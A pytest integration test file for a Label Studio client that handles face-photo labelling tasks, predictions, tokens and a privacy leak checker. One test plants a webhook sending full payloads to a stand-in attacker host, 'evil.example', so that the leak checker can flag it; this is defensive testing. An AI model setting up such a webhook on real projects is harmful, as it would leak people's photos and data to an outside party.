"""The client, our labelling configurations and our predictions against a real Label Studio."""

from __future__ import annotations

import json
import subprocess
import uuid
from typing import Any

import pytest
from label_studio_server import VENV, LabelStudioServer
from ready_photos import LINKS, NOW, face, photo

from backend.errors import LabelStudioError, LabelStudioRefusedError
from backend.labelstudio import labels
from backend.labelstudio.client import LabelStudio
from backend.labelstudio.leaks import leak_check
from backend.labelstudio.predictions import PRIVACY_KEY, prediction, task_item

CONFIG = labels.expression_config()
FIT = labels.fit(CONFIG)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)


@pytest.fixture
def client(label_studio: LabelStudioServer) -> LabelStudio:
    return LabelStudio(label_studio.url, label_studio.token)


@pytest.fixture
def project_id(client: LabelStudio) -> int:
    created = client.create_project(f"Faces {uuid.uuid4().hex[:8]}", CONFIG)
    return int(created["id"])


def _items(count: int) -> list[dict[str, Any]]:
    return [
        task_item(
            photo(face(), face(1), photo_id=f"{number:032x}", image_key=f"{number:043}"),
            FIT,
            address=LINKS.address(f"{number:043}", NOW),
            suggest_expressions=True,
        )
        for number in range(count)
    ]


def _upload(server: LabelStudioServer, project_id: int, name: str) -> None:
    """As somebody does who drops a file onto Label Studio's page."""
    answer = server.api("POST", f"/api/projects/{project_id}/import", files={"file": (name, PNG, "image/png")})
    assert answer.status_code == 201


def _connect_folder(server: LabelStudioServer, project_id: int) -> str:
    """A folder with anna.png in it, connected to the project as a storage. Returns its name."""
    folder = server.files / uuid.uuid4().hex
    folder.mkdir()
    (folder / "anna.png").write_bytes(PNG)
    storage = {"project": project_id, "title": "files", "path": str(folder), "use_blob_urls": True}
    assert server.api("POST", "/api/storages/localfiles", json=storage).status_code == 201
    return folder.name


@pytest.mark.parametrize("config", [labels.expression_config(), labels.plain_config()], ids=["expression", "plain"])
def test_label_studio_takes_our_configurations(label_studio: LabelStudioServer, config: str) -> None:
    answer = label_studio.api("POST", "/api/projects/validate", json={"label_config": config})
    assert (answer.status_code, answer.text) == (204, "")


@pytest.mark.parametrize("config", [labels.expression_config(), labels.plain_config()], ids=["expression", "plain"])
@pytest.mark.usefixtures("label_studio")
def test_the_sdk_finds_no_fault_with_our_predictions(config: str) -> None:
    crowd = tuple(face(index, outcome="covered" if index == 3 else "anonymized") for index in range(12))
    fit = labels.fit(config)
    found = [prediction(photo(faces=crowd[:count]), fit, suggest_expressions=True) for count in (0, 1, 4, 5, 6, 12)]
    spoilt = {**found[1], "score": 3}
    *good, bad = _faults(config, [*found, spoilt])
    assert good == [[]] * len(found)
    assert bad


def _faults(config: str, predictions: list[dict[str, Any]]) -> list[list[str]]:
    """What the SDK that belongs to Label Studio says about each prediction."""
    program = """
import json, sys
from label_studio_sdk.label_interface import LabelInterface
told = json.load(sys.stdin)
interface = LabelInterface(told["config"])
print(json.dumps([interface.validate_prediction(each, return_errors=True) for each in told["predictions"]]))
"""
    done = subprocess.run(
        [str(VENV / "bin" / "python"), "-c", program],
        input=json.dumps({"config": config, "predictions": predictions}),
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    found: list[list[str]] = json.loads(done.stdout.splitlines()[-1])
    return found


def test_tasks_arrive_with_their_predictions_as_they_were_sent(client: LabelStudio, project_id: int) -> None:
    items = _items(3)
    task_ids = client.import_tasks(project_id, items)
    stored = list(client.tasks(project_id, page_size=2))
    assert [task["id"] for task in stored] == task_ids
    for task, item in zip(stored, items, strict=True):
        assert task["data"] == item["data"]
        assert task["meta"] == item["meta"]
        assert task["total_predictions"] == 1
        (kept,) = task["predictions"]
        assert {key: kept[key] for key in ("model_version", "score", "result")} == item["predictions"][0]
    assert client.update_project(project_id, model_version="g2face-1")["model_version"] == "g2face-1"


def test_two_hundred_photos_go_in_one_call(client: LabelStudio, project_id: int) -> None:
    items = _items(200)
    task_ids = client.import_tasks(project_id, items)
    keys = [item["data"][PRIVACY_KEY] for item in items]
    assert client.find_tasks(project_id, keys) == dict(zip(keys, task_ids, strict=True))
    assert sum(1 for _ in client.tasks(project_id)) == 200


def test_tasks_are_found_by_privacy_key_in_their_own_project_alone(client: LabelStudio, project_id: int) -> None:
    other = int(client.create_project("Somebody else's faces", CONFIG)["id"])
    items = _items(4)
    (first, *_) = client.import_tasks(project_id, items)
    client.import_tasks(project_id, items[:1])
    client.import_tasks(other, items)
    keys = [item["data"][PRIVACY_KEY] for item in items]
    assert client.find_tasks(project_id, [keys[0], "f" * 32]) == {keys[0]: first}
    assert client.find_tasks(project_id, []) == {}
    assert client.find_tasks(project_id, [keys[0][:8]]) == {}


def test_an_image_is_replaced_and_the_predictions_stay(client: LabelStudio, project_id: int) -> None:
    (task_id,) = client.import_tasks(project_id, _items(1))
    client.replace_image(task_id, {"image": "http://images.example/new", PRIVACY_KEY: "k"})
    task = client.task(project_id, task_id)
    assert task is not None
    assert task["data"] == {"image": "http://images.example/new", PRIVACY_KEY: "k"}
    assert task["total_predictions"] == 1
    assert client.task(project_id, task_id + 1000) is None


def test_predictions_are_added_listed_and_deleted_by_version(client: LabelStudio, project_id: int) -> None:
    (task_id,) = client.import_tasks(project_id, _items(1))
    newer = prediction(photo(), FIT, suggest_expressions=False, model_version="g2face-2")
    assert client.import_predictions(project_id, [{"task": task_id, **newer}]) == 1
    assert client.predicted_versions(task_id) == {"g2face-1", "g2face-2"}
    client.delete_predictions(project_id, "g2face-1")
    assert client.predicted_versions(task_id) == {"g2face-2"}


def test_projects_are_listed_with_their_configuration(client: LabelStudio, project_id: int) -> None:
    assert project_id in [listed["id"] for listed in client.projects()]
    assert labels.fit(client.project(project_id)["label_config"]) == FIT


def test_both_kinds_of_key_work(label_studio: LabelStudioServer, client: LabelStudio) -> None:
    email = f"{uuid.uuid4().hex[:8]}@example.org"
    personal = LabelStudio(label_studio.url, label_studio.personal_token(email))
    assert personal.current_user()["email"] == email
    assert client.current_user()["email"] == label_studio.user
    for wrong in ("0" * 40, "a.b.c"):
        with pytest.raises(LabelStudioRefusedError):
            LabelStudio(label_studio.url, wrong).current_user()


def test_an_uploaded_image_comes_back_by_either_kind_of_key(
    label_studio: LabelStudioServer, client: LabelStudio, project_id: int
) -> None:
    _upload(label_studio, project_id, "anna.png")
    (task,) = client.tasks(project_id)
    personal = LabelStudio(label_studio.url, label_studio.personal_token(f"{uuid.uuid4().hex[:8]}@example.org"))
    assert client.download(task["data"]["image"]) == personal.download(task["data"]["image"]) == PNG
    with pytest.raises(LabelStudioError, match="500"):  # what Label Studio says of a file that is not there
        client.download("/data/upload/999/nothing.png")


def test_a_local_file_comes_back_once_its_folder_is_connected(
    label_studio: LabelStudioServer, client: LabelStudio, project_id: int
) -> None:
    address = f"{label_studio.url}/data/local-files/?d={_connect_folder(label_studio, project_id)}/anna.png"
    assert client.download(address) == PNG


def test_what_label_studio_refuses_is_told_by_field(client: LabelStudio, project_id: int) -> None:
    with pytest.raises(LabelStudioRefusedError, match=r"\(400\): title"):
        client.create_project("ab", CONFIG)
    with pytest.raises(LabelStudioRefusedError, match="model_version"):
        client.update_project(project_id, model_version="never-seen")
    with pytest.raises(LabelStudioRefusedError, match="404"):
        client.project(999_999)
    with pytest.raises(LabelStudioRefusedError, match="import tasks"):
        client.import_tasks(project_id, [{"data": {"other": "x"}}])


def test_a_project_made_by_intake_leaks_nothing(client: LabelStudio, project_id: int) -> None:
    client.import_tasks(project_id, _items(2))
    found = leak_check(client, project_id, own_host=LINKS.host)
    assert found.clean
    assert found.tasks_checked == 2


def test_what_an_adopted_project_leaks_is_found(
    label_studio: LabelStudioServer, client: LabelStudio, project_id: int
) -> None:
    client.import_tasks(project_id, _items(1))
    _upload(label_studio, project_id, "anna.png")
    task_id = [task["id"] for task in client.tasks(project_id)][-1]
    hook = {"project": project_id, "url": "http://evil.example/x", "send_payload": True, "send_for_all_actions": True}
    assert label_studio.api("POST", "/api/webhooks/", json=hook).status_code == 201
    _connect_folder(label_studio, project_id)
    found = {finding.kind: finding for finding in leak_check(client, project_id, own_host=LINKS.host).findings}
    assert found.keys() == {"foreign_image", "uploaded_file", "upload", "webhook", "storage"}
    assert found["foreign_image"].task_ids == found["uploaded_file"].task_ids == (task_id,)
    client.replace_image(task_id, {"image": LINKS.address("9" * 43, NOW)})
    assert "anna" not in str(found)
    left = {finding.kind for finding in leak_check(client, project_id, own_host=LINKS.host).findings}
    assert left == found.keys() - {"foreign_image"}
    (webhook,) = client.webhooks(project_id)
    client.delete_webhook(webhook["id"])
    assert client.webhooks(project_id) == []
